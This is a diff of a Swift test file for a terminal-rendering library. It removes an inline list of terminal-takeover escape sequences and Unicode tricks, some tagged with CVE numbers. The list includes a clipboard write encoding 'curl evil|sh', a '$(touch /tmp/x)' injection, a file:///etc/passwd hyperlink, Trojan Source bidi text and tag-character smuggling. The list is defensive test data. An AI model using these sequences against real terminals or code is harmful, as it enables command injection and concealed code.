@@ -1,27 +1,9 @@
 import Canvas
+import TestSupport
 import Testing
 
 /// Sequences that have taken terminals over, and their relatives.
-private let attacks: [String] = [
-    "\u{1B}]0;title\u{7}", "\u{1B}]2;title\u{1B}\\", "\u{1B}[21t",  // title, and its report: CVE-2003-0063
-    "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{7}", "\u{1B}]52;c;?\u{7}",  // clipboard, written and read
-    "\u{1B}]8;;file:///etc/passwd\u{1B}\\click\u{1B}]8;;\u{1B}\\",  // hyperlink: CVE-2022-46663
-    "\u{1B}P$q\"p\u{1B}\\", "\u{1B}P+q544e\u{1B}\\",  // DECRQSS: CVE-2008-2383, CVE-2022-45872
-    "\u{1B}]50;?\u{7}", "\u{1B}]50;i$(touch /tmp/x)\u{7}",  // font: CVE-2022-45063
-    "\u{1B}]1337;File=name=YQ==:AAAA\u{7}", "\u{1B}]4;1;?\u{7}", "\u{1B}]11;?\u{7}",
-    "\u{1B}_Ga=T,f=24;AAAA\u{1B}\\", "\u{1B}^private\u{1B}\\", "\u{1B}Xstring\u{1B}\\",
-    "\u{1B}[2J\u{1B}[H", "\u{1B}[?1049l", "\u{1B}c", "\u{1B}[6n", "\u{1B}[c", "\u{1B}[>c", "\u{1B}[?2004l",
-    "\u{1B}[31", "\u{1B}[", "\u{1B}", "\u{1B}]52;c;unfinished", "\u{1B}P1000p%begin",  // cut, tmux control mode
-    "\u{9B}31m", "\u{9D}52;c;eA==\u{9C}", "\u{90}q\u{9C}", "\u{9F}x\u{9C}", "\u{85}", "\u{8D}",  // C1
-    "safe\r\u{1B}[Kevil", "over\u{8}\u{8}\u{8}\u{8}written", "bell\u{7}", "\u{E}line drawing\u{F}", "\u{7F}\u{0}",
-    "\u{202E}gnp.exe", "a\u{202A}b\u{202B}c\u{202D}d\u{202C}", "\u{2066}x\u{2067}y\u{2068}z\u{2069}",  // bidi
-    "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */",  // Trojan Source: CVE-2021-42574
-    "\u{200E}\u{200F}\u{61C}", "a\u{200B}b\u{2060}c\u{FEFF}d\u{AD}e\u{180E}f\u{34F}g",
-    "\u{115F}\u{1160}\u{3164}\u{FFA0}",
-    "hi\u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F}",  // ASCII smuggled in tags
-    "x\u{FE00}\u{FE0F}\u{E0100}\u{E01EF}\u{180B}", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "\u{1D173}\u{1D17A}",
-    "\u{2028}\u{2029}", "\u{FFFE}\u{FFFF}\u{1FFFF}\u{2FFFF}", "\u{E000}\u{F8FF}\u{F0000}\u{10FFFD}",
-]
+private let attacks = EscapeCorpus.standard.attacks.map(\.text)
 
 /// Whether a scalar may stand in a cell at all.
 private func isHarmless(_ value: UInt32) -> Bool {
